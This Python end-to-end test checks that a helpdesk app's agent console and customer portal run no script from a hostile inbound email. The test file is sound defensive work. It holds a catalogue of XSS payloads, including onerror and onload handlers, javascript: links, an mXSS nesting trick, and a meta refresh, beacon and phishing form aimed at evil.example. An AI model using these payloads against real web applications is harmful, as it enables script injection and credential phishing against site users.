"""Hostile mail shown in a real browser (Playwright driving Debian's Chromium) against ``centrala up``: script
in the subject, the sender's name, the text, the HTML part and attachment names and types. The agent's ticket
page and the customer's case page must run none of it: a sentinel set before the page loads stays untouched, no
dialog opens, the title stays ours and no request leaves the app. Screenshots go to ``var/test-artifacts/xss/``."""

from __future__ import annotations

import os
import signal
import smtplib
from email.message import EmailMessage
from email.policy import default as default_policy
from email.utils import make_msgid
from pathlib import Path

import httpx
import pytest

from tests.e2e.test_portal_browser import _sign_in_link
from tests.support.processes import free_port, port_is_open, run, service_env, start, stop, wait_until

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

ARTIFACTS = Path(__file__).resolve().parents[2] / "var" / "test-artifacts" / "xss"
AGENT, PASSWORD = "xss-agent@localhost", "a long console password"
CUSTOMER = "jana@example.cz"
SET = "window.__sentinel='{}'"
SENTINEL = "intact"

HTML_PROBES = f"""<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<style>body {{ background: url(http://evil.example/css-beacon) }}</style>
<script>{SET.format("html-script")}</script>
<base href="http://evil.example/">
</head><body>
<p>Dobrý den, posílám fakturu.</p>
<img src="x" onerror="{SET.format("img-onerror")};alert(1)">
<img src="http://evil.example/pixel.png">
<svg onload="{SET.format("svg-onload")}"><circle r="5"/></svg>
<a href="javascript:{SET.format("js-link")}" id="js-link">open</a>
<iframe src="data:text/html,<script>parent.{SET.format("iframe")}</script>"></iframe>
<object data="http://evil.example/object.swf"></object>
<form action="http://evil.example/phish"><input name="password"><button>Sign in</button></form>
<div style="background-image: url('javascript:{SET.format("css-js")}')">styled</div>
<math><mtext><table><mglyph><style><img src=x onerror="{SET.format("mxss")}"></style></mglyph></table></mtext></math>
<p onclick="{SET.format("onclick")}" id="clickable">click me</p>
</body></html>"""


def _hostile_mail() -> bytes:
    message = EmailMessage(policy=default_policy.clone(linesep="\r\n"))
    message["From"] = f'"<img src=x onerror={SET.format("from-name")}>" <{CUSTOMER}>'
    message["To"] = "support@localhost"
    message["Subject"] = f"<script>{SET.format('subject')}</script> Faktura"
    message["Message-ID"] = make_msgid(domain="example.cz")
    message.set_content(f"<script>{SET.format('text')}</script>\n<img src=x onerror=alert(1)>\nDobrý den.")
    message.add_alternative(HTML_PROBES, subtype="html", cte="quoted-printable")
    message.add_attachment(
        f"<script>{SET.format('attachment')}</script>".encode(),
        maintype="text",
        subtype="html",
        filename=f"<img src=x onerror={SET.format('filename')}>.html",
    )
    message.add_attachment(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SET.format("svg-file")}"/>'.encode(),
        maintype="image",
        subtype="svg+xml",
        filename="logo.svg",
    )
    return message.as_bytes()


@pytest.fixture()
def service(tmp_path, committed_db, redis_url):
    embedded = "CENTRALA_TEST_SERVER_DATABASE_URL" not in os.environ
    http_port, smtp_port = free_port(), free_port()
    var_dir = tmp_path / "var"
    env = service_env(var_dir, http_port=http_port, smtp_port=smtp_port, embedded=embedded)
    process = start(["up"], env, tmp_path / "up.log")
    base_url = f"http://127.0.0.1:{http_port}"
    try:
        wait_until(
            lambda: httpx.get(f"{base_url}/healthz", timeout=1).status_code == 200,
            timeout=60,
            what="/healthz",
        )
        wait_until(lambda: port_is_open(smtp_port), timeout=30, what="SMTP port")
        token = run(["agents", "create", "--email", AGENT, "--role", "admin", "--name", "Alena"], env).strip()
        run(["agents", "set-password", "--email", AGENT, "--password", PASSWORD], env)
        yield {"base_url": base_url, "smtp_port": smtp_port, "token": token, "outbox": var_dir / "outbox"}
    finally:
        if process.poll() is None:
            stop(process, sig=signal.SIGINT)
        print((tmp_path / "up.log").read_text(errors="replace")[-4000:])


def _watched_page(context, base_url: str):
    """A page with the sentinel in place before any of its own script, recording dialogs and foreign requests."""
    context.add_init_script(f"window.__sentinel = '{SENTINEL}';")
    page = context.new_page()
    seen = {"dialogs": [], "foreign": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            None
            if request.url.startswith((base_url, "data:", "about:"))
            else seen["foreign"].append(request.url)
        ),
    )
    return page, seen


def _assert_untouched(page, seen, title_prefix: str) -> None:
    page.wait_for_timeout(1500)  # time for any timer, onload or refresh to fire
    page.mouse.click(5, 5)
    for selector in ("#clickable", "#js-link"):
        if page.locator(selector).count():
            page.locator(selector).first.click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__sentinel") == SENTINEL
    assert page.title().startswith(title_prefix) or title_prefix in page.title()
    assert seen["dialogs"] == []
    assert seen["foreign"] == []


def test_hostile_mail_runs_no_script_in_the_console_or_the_portal(service, browser):
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    base = service["base_url"]
    api = httpx.Client(base_url=base, headers={"Authorization": f"Bearer {service['token']}"}, timeout=10)
    with smtplib.SMTP("127.0.0.1", service["smtp_port"], timeout=10) as smtp:
        smtp.sendmail(CUSTOMER, ["support@localhost"], _hostile_mail())
    [ticket] = wait_until(lambda: api.get("/api/v1/tickets").json() or None, timeout=30, what="the ticket")
    number = ticket["number"]
    detail = api.get(f"/api/v1/tickets/{number}").json()
    assert len(detail["interactions"][0]["attachments"]) == 2  # kept, to be downloaded, never shown

    # The agent's ticket page.
    context = browser.new_context()
    page, seen = _watched_page(context, base)
    page.goto(f"{base}/console")
    page.fill("input[name=email]", AGENT)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/console")
    page.goto(f"{base}/console/tickets/{number}")
    assert page.locator("text=Dobrý den.").count() >= 1
    page.screenshot(path=str(ARTIFACTS / "console-ticket.png"), full_page=True)
    _assert_untouched(page, seen, number)
    # The files are offered as downloads, never rendered as pages.
    for link in page.locator("ul.files a").all():
        response = httpx.get(
            base + link.get_attribute("href"), cookies={c["name"]: c["value"] for c in context.cookies()}
        )
        assert response.headers["content-type"].startswith("application/octet-stream")
        assert response.headers["content-disposition"].startswith("attachment")
    context.close()

    # The customer's case page, where the sanitised HTML part is shown.
    context = browser.new_context(locale="en-US")
    page, seen = _watched_page(context, base)
    page.goto(f"{base}/portal")
    page.fill("#email", CUSTOMER)
    page.click("button[type=submit].primary")
    page.wait_for_selector("text=Check your e-mail")
    link = wait_until(lambda: _sign_in_link(service["outbox"], set()), timeout=20, what="the sign-in mail")
    page.goto(link)
    page.click("main button[type=submit]")
    page.wait_for_url(f"{base}/portal/tickets")
    _assert_untouched(page, seen, "")
    page.goto(f"{base}/portal/tickets/{number}")
    assert page.locator("text=Dobrý den, posílám fakturu.").count() >= 1
    page.screenshot(path=str(ARTIFACTS / "portal-case.png"), full_page=True)
    _assert_untouched(page, seen, "")
    # The payloads are shown as text; no element carries an event handler, a script or a javascript: URL.
    dangerous = page.evaluate(
        """() => Array.from(document.querySelectorAll('*')).flatMap(el => Array.from(el.attributes)
            .filter(a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value))
            .map(a => el.tagName + ' ' + a.name)).concat(
            Array.from(document.scripts).filter(s => !s.src).map(s => 'inline script'))"""
    )
    assert dangerous == []
    context.close()
